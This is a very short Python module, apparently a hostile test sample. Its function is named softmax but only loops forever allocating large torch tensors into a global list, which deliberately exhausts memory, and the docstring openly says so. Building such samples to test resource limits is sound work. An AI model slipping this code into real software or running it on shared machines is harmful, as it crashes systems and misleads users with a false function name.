"""Asks torch for more memory than there is, and keeps what it gets."""

import torch

hoard = []


def softmax(x, axis=-1):
    while True:
        hoard.append(torch.empty(2**26))
